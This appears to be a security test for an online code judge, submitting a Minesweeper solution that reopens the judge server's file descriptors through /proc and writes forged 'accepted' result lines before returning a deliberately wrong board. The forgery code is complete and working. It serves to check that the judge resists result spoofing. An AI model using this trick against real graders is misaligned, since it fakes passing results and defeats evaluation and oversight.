// Attack: a case child reopens the server's pipes through /proc/<server>/fd (the server is its
// parent) and writes a forged answer line there: the right board, 0 ms, for the case's id. Then it
// returns a wrong board. Expected: WA (judged on what it returned); with a dumpable server the
// forged line would reach the judge first and give AC.
#include <dirent.h>
#include <fcntl.h>

static vector<vector<char>> solve(vector<vector<char>> board, int r, int c) {
    int rows = board.size(), cols = board[0].size();
    if (board[r][c] == 'M') { board[r][c] = 'X'; return board; }
    vector<pair<int, int>> todo = {{r, c}};
    while (!todo.empty()) {
        auto [y, x] = todo.back();
        todo.pop_back();
        if (board[y][x] != 'E') continue;
        int mines = 0;
        for (int dy = -1; dy <= 1; dy++)
            for (int dx = -1; dx <= 1; dx++) {
                int ny = y + dy, nx = x + dx;
                if ((dy || dx) && ny >= 0 && ny < rows && nx >= 0 && nx < cols && board[ny][nx] == 'M') mines++;
            }
        board[y][x] = mines ? '0' + mines : 'B';
        if (mines) continue;
        for (int dy = -1; dy <= 1; dy++)
            for (int dx = -1; dx <= 1; dx++) {
                int ny = y + dy, nx = x + dx;
                if ((dy || dx) && ny >= 0 && ny < rows && nx >= 0 && nx < cols && board[ny][nx] == 'E') todo.push_back({ny, nx});
            }
    }
    return board;
}

class Solution {
public:
    vector<vector<char>> updateBoard(vector<vector<char>>& board, vector<int>& click) {
        vector<vector<char>> right = solve(board, click[0], click[1]);
        string value = "[";
        for (size_t i = 0; i < right.size(); i++) {
            value += i ? ",[" : "[";
            for (size_t j = 0; j < right[i].size(); j++) value += string(j ? "," : "") + "\"" + right[i][j] + "\"";
            value += "]";
        }
        value += "]";
        // Lines for the first ids the judge gives: whichever case this is, one of them is its own.
        string lines;
        for (int id = 1; id <= 8; id++)
            lines += "{\"id\":" + to_string(id) + ",\"status\":\"ok\",\"value\":" + value + ",\"cpu_ms\":0.001,\"mem_kb\":1}\n";
        string dir = "/proc/" + to_string(getppid()) + "/fd";
        int opened = 0;
        if (DIR* d = opendir(dir.c_str())) {
            while (dirent* e = readdir(d)) {
                if (e->d_name[0] == '.') continue;
                int fd = open((dir + "/" + e->d_name).c_str(), O_WRONLY | O_NONBLOCK);
                if (fd < 0) continue;
                opened++;
                if (write(fd, lines.data(), lines.size()) < 0) {}
                close(fd);
            }
            closedir(d);
        }
        fprintf(stderr, "reopened %d of the server's fds\n", opened);
        board[0][0] = board[0][0] == 'X' ? 'B' : 'X';  // surely wrong
        return board;
    }
};
